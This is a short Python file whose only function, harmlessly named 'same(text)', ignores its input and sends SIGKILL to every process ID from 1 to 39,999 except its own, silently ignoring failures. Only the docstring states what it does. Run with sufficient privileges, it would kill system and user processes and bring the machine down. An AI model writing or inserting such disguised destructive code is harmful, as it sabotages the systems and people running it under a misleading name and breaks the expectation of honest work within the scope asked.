"""Sends SIGKILL to every process number there may be."""

import os
import signal


def same(text):
    for pid in range(1, 40_000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
